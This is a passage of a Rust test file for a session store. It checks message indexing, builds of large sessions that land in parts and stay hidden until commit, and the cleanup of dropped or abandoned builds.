    assert_eq!(store.unindexed_messages().unwrap(), 0);
    // Nothing the edit and the delete did reached the index: it is the messages, exactly.
    index_is_sound(&store, true);
    assert_eq!(found(&store), [large.id.as_str(), small.id.as_str()]);
    // From now on the session is indexed as it goes, and a deleted message leaves the index.
    store
        .append_message(&large.id, 701, "user", "zebra now", "{}", None)
        .unwrap();
    store
        .transaction(|w| {
            w.conn
                .execute("DELETE FROM messages WHERE session_id = ?1", [&large.id])
        })
        .unwrap();
    index_is_sound(&store, true);
    assert_eq!(found(&store), [small.id.as_str()]);
}

/// Rows of `session` in each table a build writes, its marks included.
fn rows_of(store: &Store, session: &str) -> [i64; 5] {
    [
        "messages",
        "cells",
        "session_memories",
        "unindexed_sessions",
        "unlanded_sessions",
    ]
    .map(|table| {
        store
            .conn
            .query_row(
                &format!("SELECT count(*) FROM {table} WHERE session_id = ?1"),
                [session],
                |r| r.get(0),
            )
            .unwrap()
    })
}

#[test]
fn a_build_lands_in_parts_that_show_nothing_and_a_dropped_one_leaves_nothing() {
    let (dir, store) = open();
    // 64 KiB messages, 48 MiB in all: parts land before the end.
    let messages: Vec<NewMessage> = (0..768u32)
        .map(|i| NewMessage {
            turn: i / 2 + 1,
            role: if i.is_multiple_of(2) { "user" } else { "assistant" }.into(),
            content: format!("{i} {}", "x".repeat(64 << 10)),
            meta: "{}".into(),
            created_at: i64::from(i),
        })
        .collect();
    let store_of = |dir: &tempfile::TempDir| Store::open(&dir.path().join(".anton"), dir.path()).unwrap();
    let started = |store: Store| -> (SessionBuild, String) {
        let mut build = store.build_session(BuildLimits::default()).unwrap();
        for batch in messages.chunks(64) {
            build.add_messages(batch).unwrap();
        }
        build
            .add_memories(&[SessionMemory {
                born: true,
                kind: "lesson".into(),
                scope: "project".into(),
                text: "a lesson".into(),
                topic: String::new(),
            }])
            .unwrap();
        let id: String = store_of(&dir)
            .conn
            .query_row("SELECT session_id FROM unlanded_sessions", [], |r| r.get(0))
            .unwrap();
        (build, id)
    };

    let (build, id) = started(store_of(&dir));
    assert!(rows_of(&store, &id)[0] >= 256, "parts landed before the end");
    assert_eq!(store.count_sessions().unwrap(), 0);
    let every = SessionQuery {
        include_empty: true,
        ..Default::default()
    };
    assert!(store.list_sessions(&every).unwrap().is_empty(), "nothing shows it");
    assert!(store.get_session(&id).unwrap().is_none());
    assert_eq!(store.unindexed_messages().unwrap(), 0, "nothing indexes it");
    drop(build);
    assert_eq!(rows_of(&store, &id), [0; 5], "a dropped build takes out what it landed");

    let (build, id) = started(store_of(&dir));
    let landed = build.commit("Built", "in parts", &Provenance::default()).unwrap();
    assert_eq!(landed.id, id);
    assert_eq!((landed.messages, landed.turns), (768, 384));
    assert!(landed.task.starts_with("0 xxx"), "{}", &landed.task[..10]);
    assert_eq!(rows_of(&store, &id), [768, 0, 1, 1, 0], "landed, its index to come");
    assert_eq!(store.list_sessions(&every).unwrap().len(), 1);
    assert_eq!(store.count_sessions().unwrap(), 1);
}

#[test]
fn a_build_another_anton_took_for_abandoned_fails_its_commit_and_leaves_nothing() {
    let (dir, store) = open();
    // Exactly three parts: nothing is left open when the last batch is in.
    let messages: Vec<NewMessage> = (0..768u32)
        .map(|i| NewMessage {
            turn: i + 1,
            role: "user".into(),
            content: format!("{:<65534}", i),
            meta: "{}".into(),
            created_at: i64::from(i),
        })
        .collect();
    let mut build = Store::open(&dir.path().join(".anton"), dir.path())
        .unwrap()
        .build_session(BuildLimits::default())
        .unwrap();
    for batch in messages.chunks(64) {
        build.add_messages(batch).unwrap();
    }
    let id: String = store
        .conn
        .query_row("SELECT session_id FROM unlanded_sessions", [], |r| r.get(0))
        .unwrap();
    // As a build from another host, a day old, reads to the next anton.
    store
        .transaction(|w| {
            w.conn.execute(
                "UPDATE unlanded_sessions SET writer_host = 'elsewhere', started_at = 0",
                [],
            )
        })
        .unwrap();
    store.sweep_dead_builds().unwrap();
    assert_eq!(rows_of(&store, &id), [0; 5], "swept");
    let refused = build
        .commit("late", "", &Provenance::default())
        .unwrap_err()
        .to_string();
    assert!(refused.contains("import the file again"), "{refused}");
    assert_eq!(rows_of(&store, &id), [0; 5]);
    assert_eq!(store.count_sessions().unwrap(), 0, "no half session landed");
}
